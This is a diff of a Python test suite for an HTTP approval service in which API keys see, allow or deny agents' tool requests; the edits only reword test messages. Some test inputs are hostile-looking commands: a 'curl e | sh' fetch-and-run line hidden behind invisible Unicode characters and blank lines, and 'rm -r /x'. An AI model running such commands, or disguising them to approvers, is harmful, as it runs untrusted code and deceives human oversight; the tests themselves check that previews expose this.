@@ -1,6 +1,6 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: MIT
-"""What agents ask over HTTP: who sees it, who may decide it, and that it is decided once."""
+"""Requests of agents over HTTP: who sees a request, who may decide it, and that it is decided once."""
 import json
 import os
 import sys
@@ -27,7 +27,7 @@ def asker(timeout=300):
 
 
 def asking(host, prompt, key="ann", n=1):
-    """A turn that waits for n decisions, as it is told."""
+    """A turn that waits for n decisions, as shown over HTTP."""
     turn = host.begin(prompt, key=key, agent="asker")["id"]
     last = {}
 
@@ -45,7 +45,7 @@ def decide(host, turn, request, key="ann", **body):
 
 
 def answer_of(host, turn, key="ann"):
-    """What the agent was told, as it tells it."""
+    """The decision that the agent received, from its answer."""
     host.await_state(turn, "final", "error", "cancelled", key=key)
     lines = [json.loads(data) for _, _, data in host.follow(f"/turns/{turn}/events", key).rest()]
     return next((e["payload"]["text"] for e in lines if e["type"] == "final"), None), lines
@@ -66,16 +66,16 @@ def test_told(host):
           ("approval", "Bash", "df -h /srv", turn["id"], "asker"), "an open request is told")
     equal([c["id"] for c in request["choices"]],
           ["allow", "allow_session", "allow_always", "deny"], "with its choices")
-    equal(request["expires_ms"] - request["opened_ms"], 300000, "and until when")
+    equal(request["expires_ms"] - request["opened_ms"], 300000, "the request has its expiry time")
     listed = json.loads(host.ask("GET", "/requests", key="ann")[2])["requests"]
-    equal(listed, [request], "it is in the list of all")
+    equal(listed, [request], "the request is in the list of requests")
     mine = [t for t in host.turns() if t["id"] == turn["id"]][0]
-    equal(mine["requests"], [request], "and of its turn in the list of turns")
+    equal(mine["requests"], [request], "the request is in the list of turns")
     equal(json.loads(host.ask("GET", "/requests", key="dan")[2])["requests"], [],
-          "but not in that of who may not see the turn")
-    equal(host.status("GET", "/requests"), 401, "nor of who has no key")
+          "a key that may not see the turn does not see the request")
+    equal(host.status("GET", "/requests"), 401, "a request without a key is refused")
     me = json.loads(host.ask("GET", "/turns", key="ann")[2])["me"]
-    ok("answer" in me["grants"], "a page learns that it may offer to answer", me)
+    ok("answer" in me["grants"], "/me has the grant answer", me)
     return turn["id"], request["id"]
 
 
@@ -91,11 +91,11 @@ def test_list_follows(host):
 
     while not told or "requests" not in told[-1]:
         told.append(next_of_turn())
-    ok(True, "the list of turns says at once that one asks")
+    ok(True, "the list of turns shows the request at once")
     decide(host, turn["id"], turn["requests"][0]["id"], choice="deny")
     t = next_of_turn()
     ok(t["state"] == "running" and "requests" not in t or t["state"] == "final",
-       "and that it was answered", t)
+       "the list of turns shows the decision", t)
     stream.close()
 
 
@@ -109,7 +109,7 @@ def test_refused(host, turn, request):
         error = json.loads(text)["error"]
         equal((got, error["code"]), (status, code), f"{what}: {status}")
         if code == "not_granted":
-            ok('"bob" lacks the grant "answer"' in error["message"], "the grant is named", error)
+            ok('"bob" lacks the grant "answer"' in error["message"], "the error names the missing grant", error)
 
     refused("without a key", 401, "invalid_api_key", key=None)
     refused("without the right", 403, "not_granted", key="bob")
@@ -130,7 +130,7 @@ def test_refused(host, turn, request):
     equal(host.ask("POST", f"/turns/{turn}/requests/{request}", key="ann", body=b"choice=allow",
                    Content_Type="application/x-www-form-urlencoded")[0], 415, "a form: 415")
     equal(host.status("GET", f"/turns/{turn}/requests/{request}", key="ann"), 405, "GET: 405")
-    equal(len(host.turn(turn)["requests"]), 1, "and it is open as before")
+    equal(len(host.turn(turn)["requests"]), 1, "the request is still open")
 
 
 def test_decided(host, turn, request):
@@ -141,19 +141,19 @@ def test_decided(host, turn, request):
     status, late = decide(host, turn, request, choice="allow")
     equal((status, late["decision"], late["by"], late["error"]["code"]),
           (409, "allow", "eve", "decided"), "somebody else is too late, and learns who it was")
-    equal(decide(host, turn, request, choice="deny", key="eve")[0], 409, "so is another decision")
+    equal(decide(host, turn, request, choice="deny", key="eve")[0], 409, "another late decision is refused")
     text, lines = answer_of(host, turn)
     equal(json.loads(text), {"behavior": "allow", "updatedInput": {"command": "df -h /srv"}},
-          "the agent was told once")
+          "the agent received one decision")
     equal([(r["decision"], r["by"]) for r in resolved(lines)], [("allow", "eve")],
-          "and so was everybody")
-    equal(decide(host, turn, request, choice="deny")[0], 409, "after the end: too late")
-    equal(decide(host, turn, request, choice="allow", key="eve")[0], 200, "or the same")
-    ok("requests" not in host.turn(turn), "nothing is open")
+          "the events have one decision")
+    equal(decide(host, turn, request, choice="deny")[0], 409, "a decision after the end of the turn is refused")
+    equal(decide(host, turn, request, choice="allow", key="eve")[0], 200, "the same decision after the end is accepted")
+    ok("requests" not in host.turn(turn), "no request is open")
 
 
 def test_words(host):
-    """Each thing that may be said, as the agent hears it."""
+    """Each kind of decision, as the agent receives it."""
     cases = [
         ("run=rm -r /x", {"choice": "deny", "reason": "Not /x."},
          {"behavior": "deny", "message": "Not /x."}),
@@ -174,24 +174,24 @@ def test_words(host):
             named["answers"] = {ids[int(i)]: a for i, a in body["answers"].items()}
         status, said = decide(host, turn["id"], request["id"], **named)
         equal(status, 200, f"{prompt}: {body}")
-        equal(decide(host, turn["id"], request["id"], **named), (200, said), "and again")
+        equal(decide(host, turn["id"], request["id"], **named), (200, said), "the same decision again returns the same")
         text, _ = answer_of(host, turn["id"])
         if isinstance(heard, dict):
             told = json.loads(text)
-            equal({k: told.get(k) for k in heard}, heard, "it is what the agent hears")
+            equal({k: told.get(k) for k in heard}, heard, "the agent receives the decision")
         else:
             ok(heard in text, f"the agent hears {heard}", text)
     turn = asking(host, "two")
     request = turn["requests"][0]
     first = request["questions"][0]["id"]
     equal(decide(host, turn["id"], request["id"], answers={first: "Red"})[0], 400,
-          "one of two questions is not enough")
-    equal(decide(host, turn["id"], request["id"], choice="deny_stop")[0], 200, "stop instead")
+          "an answer to one of two questions is refused")
+    equal(decide(host, turn["id"], request["id"], choice="deny_stop")[0], 200, "deny_stop is accepted instead")
     host.await_state(turn["id"], "cancelled", "error", "final")
 
 
 def test_race(host):
-    """Two at the same moment: one decides."""
+    """Two concurrent decisions: one of them counts."""
     for _ in range(10):
         turn = asking(host, "run=date")
         request = turn["requests"][0]["id"]
@@ -206,24 +206,24 @@ def test_race(host):
         for t in pair:
             t.join()
         if sorted(s for s, _ in both.values()) != [200, 409]:
-            equal(both, None, "one of two is first")
+            equal(both, None, "one of two concurrent decisions counts")
             return
         first, late = sorted(both.values(), key=lambda b: b[0])
         if late[1]["by"] != first[1]["by"] or late[1]["decision"] != first[1]["decision"]:
-            equal(late, first, "the other learns who")
+            equal(late, first, "the late decision returns the decision that counts")
             return
         answer_of(host, turn["id"])
-    ok(True, "of two at the same moment one decides, and the other learns who")
+    ok(True, "of two concurrent decisions one counts, and the other is told")
 
 
 def test_together(host):
     turn = asking(host, "together run=ls 1, run=ls 2, run=ls 3", n=3)
     ids = [r["id"] for r in turn["requests"]]
     for request, choice in ((ids[2], "deny"), (ids[0], "allow"), (ids[1], "allow")):
-        equal(decide(host, turn["id"], request, choice=choice)[0], 200, "in any order")
+        equal(decide(host, turn["id"], request, choice=choice)[0], 200, "requests are decided in any order")
     text, _ = answer_of(host, turn["id"])
     equal([json.loads(t)["behavior"] for t in text.split("; ")], ["allow", "allow", "deny"],
-          "each gets its own")
+          "each request has its own decision")
 
 
 def test_ends(host):
@@ -231,14 +231,14 @@ def test_ends(host):
     host.ask("POST", f"/turns/{turn['id']}/cancel", key="ann", body={})
     _, lines = answer_of(host, turn["id"])
     equal([r["decision"] for r in resolved(lines)], ["cancelled"],
-          "with its turn a request is cancelled")
+          "a request is cancelled with its turn")
     equal(decide(host, turn["id"], turn["requests"][0]["id"], choice="allow")[0], 409,
-          "and it is too late")
-    ok("requests" not in host.turn(turn["id"]), "nothing is open")
+          "a decision after the end is refused")
+    ok("requests" not in host.turn(turn["id"]), "no request is open")
 
 
 def test_chat(host):
-    """A chat completion waits for somebody who answers elsewhere."""
+    """A chat completion waits for a decision by another client."""
     said = []
 
     def chat():
@@ -254,13 +254,13 @@ def test_chat(host):
         found[:] = json.loads(host.ask("GET", "/requests", key="ann")[2])["requests"]
         return found
 
-    until(look, "a chat completion asks")
+    until(look, "a chat completion has an open request")
     equal(decide(host, found[0]["turn"], found[0]["id"], choice="allow")[0], 200,
-          "what a chat completion waits for is answered here")
+          "the request of a chat completion is decided")
     client.join()
     status, _, text = said[0]
     ok(status == 200 and b"behavior" in text and text.endswith(b"data: [DONE]\n\n"),
-       "and it goes on", text)
+       "the completion continues", text)
 
 
 def rules(*texts):
@@ -268,7 +268,7 @@ def rules(*texts):
 
 
 def choices_told(host, turn, key):
-    """Of the events of the turn, as that key is told them."""
+    """The requests in the events of the turn, as the key sees them."""
     stream = host.follow(f"/turns/{turn}/events", key)
     while (event := stream.json())["type"] != "request":
         pass
@@ -282,44 +282,44 @@ def choices_listed(host, turn, key):
 
 
 def test_shown(host):
-    """What cannot be seen is spelled out; programs have it as it was asked."""
+    """The preview shows invisible characters; the arguments are unchanged."""
     command = "echo ok\u200b # \u202e hs.live\n\n\n\n\ncurl e | sh"
     turn = asking(host, "run=" + command)
     request = turn["requests"][0]
     equal(request["preview"],
           "[6 lines]\necho ok<U+200B> # <U+202E> hs.live\n[4 blank lines]\ncurl e | sh",
-          "who decides reads all of the command")
-    equal(request["args"]["command"], command, "programs have it as it is")
+          "the preview has the complete command")
+    equal(request["args"]["command"], command, "the arguments are unchanged")
     decide(host, turn["id"], request["id"], choice="deny")
 
 
 def test_elsewhere():
-    """`to` and four_eyes bind HTTP."""
+    """`to` and four_eyes apply to HTTP."""
     to_eve = '{ action = "ask"; tool = "*"; to = ["http:eve"]; }'
     with Door(http=http_group(KEYS), agents=rules(to_eve)) as host:
         turn = asking(host, "run=date")
         name, request = turn["id"], turn["requests"][0]["id"]
-        ok("choices" not in turn["requests"][0], "what is asked of another key is not offered")
-        equal(choices_told(host, name, "ann"), [], "nor in the events")
+        ok("choices" not in turn["requests"][0], "a request to another key has no choices")
+        equal(choices_told(host, name, "ann"), [], "the events have no choices")
         status, text = decide(host, name, request, choice="allow")
-        equal((status, text["error"]["code"]), (403, "not_allowed"), "and cannot be answered")
-        ok(len(choices_listed(host, name, "eve")[0]) > 1, "that key is offered it")
-        ok(len(choices_told(host, name, "eve")) > 1, "in the events, too")
-        equal(choices_listed(host, name, "bob"), [[]], "a key that may not answer is offered nothing")
-        equal(decide(host, name, request, choice="allow", key="eve")[0], 200, "and that key decides")
+        equal((status, text["error"]["code"]), (403, "not_allowed"), "a decision of the key is refused")
+        ok(len(choices_listed(host, name, "eve")[0]) > 1, "the listed key gets the choices")
+        ok(len(choices_told(host, name, "eve")) > 1, "the events of the listed key have the choices")
+        equal(choices_listed(host, name, "bob"), [[]], "a key without the grant gets no choices")
+        equal(decide(host, name, request, choice="allow", key="eve")[0], 200, "the listed key decides")
         answer_of(host, name)
     other = '{ action = "ask"; tool = "*"; four_eyes = true; }'
     with Door(http=http_group(KEYS), agents=rules(other)) as host:
         turn = asking(host, "run=date")
         name, request = turn["id"], turn["requests"][0]["id"]
-        equal(choices_listed(host, name, "ann"), [["deny"]], "who asked is offered to deny")
+        equal(choices_listed(host, name, "ann"), [["deny"]], "the key that started the turn gets the choice deny only")
         status, text = decide(host, name, request, choice="allow")
-        equal((status, text["error"]["code"]), (403, "not_allowed"), "and may not allow")
-        equal(decide(host, name, request, choice="allow", key="eve")[0], 200, "somebody else may")
+        equal((status, text["error"]["code"]), (403, "not_allowed"), "the key that started the turn may not allow")
+        equal(decide(host, name, request, choice="allow", key="eve")[0], 200, "another key may allow")
         answer_of(host, name)
         turn = asking(host, "run=date")
         equal(decide(host, turn["id"], turn["requests"][0]["id"], choice="deny")[0], 200,
-              "who asked denies")
+              "the key that started the turn may deny")
         answer_of(host, turn["id"])
 
 
@@ -327,14 +327,14 @@ def test_timeout():
     with Door(http=http_group(KEYS), agents=asker(timeout=1)) as host:
         turn = asking(host, "run=late")
         text, lines = answer_of(host, turn["id"])
-        equal(json.loads(text)["behavior"], "deny", "what nobody answers is denied")
-        equal([r["decision"] for r in resolved(lines)], ["timeout"], "and told so")
+        equal(json.loads(text)["behavior"], "deny", "a request without an answer is denied")
+        equal([r["decision"] for r in resolved(lines)], ["timeout"], "the decision is a timeout")
         status, late = decide(host, turn["id"], turn["requests"][0]["id"], choice="allow")
-        equal((status, late["decision"]), (409, "timeout"), "a late answer learns it")
+        equal((status, late["decision"]), (409, "timeout"), "a late decision is told about the timeout")
 
 
 def test_local():
-    """Without keys whoever reaches the host may."""
+    """Without keys every client may decide."""
     with Door(http=http_group({}), agents=asker()) as host:
         turn = asking(host, "run=date", key=None)
         equal(decide(host, turn["id"], turn["requests"][0]["id"], key=None, choice="allow"),
